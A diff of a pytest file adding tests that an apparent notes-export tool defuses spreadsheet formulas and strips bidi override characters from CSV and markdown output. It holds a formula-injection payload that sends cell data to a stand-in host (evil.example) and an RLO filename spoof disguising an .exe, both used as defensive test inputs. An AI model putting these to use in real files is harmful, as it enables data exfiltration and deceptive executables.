@@ -11,7 +11,8 @@ from pathlib import Path
 import pytest
 
 from reader.core.config import DEFAULT_VERDICTS
-from reader.core.notes.export import CSV_COLUMNS, csv_report
+from reader.core.notes.export import CSV_COLUMNS, csv_report, formula_risk
+from reader.core.text.sanitize import one_line
 from tests.conftest import ARABIC_SEED, CliRunner, write_config
 from tests.test_export_injection import one_of_each
 
@@ -37,6 +38,7 @@ IN_FRONT = [
     "\u200b",
     "\u200f \u2067",
 ]
+RUN_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
 COLUMNS = {"claim": "claim", "note": "note", "title": "article_title", "author": "author"}
 
 
@@ -52,7 +54,15 @@ def test_a_formula_sign_after_invisible_or_blank_characters_is_defused(
 ) -> None:
     value = f'{front}{sign}HYPERLINK("https://evil.example/?"&A1)'
     for field in COLUMNS:
-        assert cell(field, value) == "'" + value, (field, repr(value))
+        # A one-line field shows a bidi embedding, override or isolate as � (it would turn
+        # the printed row around: then no formula is left); the note keeps them as written.
+        shown = value if field == "note" else one_line(value)
+        got = cell(field, value)
+        assert got == ("'" + shown if formula_risk(shown) else shown), (field, repr(value))
+        if shown == value:  # nothing drawn: the formula is there, and defused
+            assert got == "'" + value, (field, repr(value))
+        if field != "note":
+            assert not set(got) & set(RUN_BIDI), (field, repr(got))
 
 
 @pytest.mark.parametrize(
@@ -80,3 +90,19 @@ def test_bom_on_request(tmp_path: Path, corpus_dir: Path, run_cli: CliRunner) ->
     assert rows[0][0] == "article_id" and rows[1][8] == "المسماري"
     refused = run_cli("notes", "export", "--format", "markdown", "--bom")
     assert refused.returncode == 2 and refused.stderr == "reader: --bom is for --format csv\n"
+
+
+def test_a_bidi_override_in_a_one_line_field_cannot_turn_a_printed_row_around() -> None:
+    """`reader notes export --format markdown|csv` printed a title "invoice<RLO>fdp.exe" raw
+    (found by attacking the app): on a terminal the rest of the line read backwards."""
+    from reader.core.notes.export import markdown_report
+
+    value = "invoice\u202efdp.exe \u2066x\u2069"
+    for field in ("title", "claim", "author"):
+        groups = one_of_each(field, value)
+        for report in (
+            csv_report(groups, DEFAULT_VERDICTS),
+            markdown_report(groups, DEFAULT_VERDICTS),
+        ):
+            assert not set(report) & set(RUN_BIDI), (field, report)
+            assert "invoice\ufffdfdp.exe" in report.replace("\\", ""), (field, report)
